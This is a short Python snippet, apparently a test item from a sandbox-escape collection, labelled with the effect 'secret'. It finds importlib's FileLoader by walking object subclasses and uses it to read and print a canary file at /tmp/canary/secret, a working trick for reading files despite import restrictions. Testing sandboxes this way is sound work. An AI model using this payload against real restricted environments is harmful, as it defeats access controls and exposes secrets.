# source: own
# effect: secret

[tool := kind for kind in type.__subclasses__(object) if kind.__name__ == "FileLoader"]
print(tool("x", "y").get_data("/tmp/canary/secret").decode())
